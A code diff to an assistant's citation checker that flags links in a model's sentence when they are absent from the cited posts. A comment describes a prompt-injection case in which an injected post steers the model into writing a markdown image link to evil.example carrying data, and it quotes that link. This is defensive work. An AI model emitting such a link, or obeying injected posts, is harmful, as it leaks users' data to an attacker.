@@ -23,7 +23,7 @@ import re
 from dataclasses import dataclass, field
 from typing import Any
 
-from townsquare.assistant.evidence import link_key
+from townsquare.assistant.evidence import link_key, links_of
 from townsquare.assistant.text import (
     LINK,
     MONTHS,
@@ -105,8 +105,7 @@ def check_sentence(sentence: str, cited: list[dict], min_support: float = 0.6) -
         check.reasons.append("names not in the cited posts: " + ", ".join(missing_names))
     # a link is the most telling name a model can add: an image link a chat page fetches unasked carries what
     # an injected post steers into it (review 19, R19-B5: "![x](https://evil.example/p?d=...)" passed)
-    held = {link_key(url) for p in cited for url in (p.get("uri"), *(p.get("urls") or [])) if url}
-    held |= {link_key(url) for url in _ANY_LINK.findall(source)}
+    held = set().union(*map(links_of, cited)) | {link_key(url) for url in _ANY_LINK.findall(source)}
     missing_links = sorted({url for url in _ANY_LINK.findall(claim) if link_key(url) not in held})
     if missing_links:
         check.reasons.append("links not in the cited posts: " + ", ".join(missing_links))
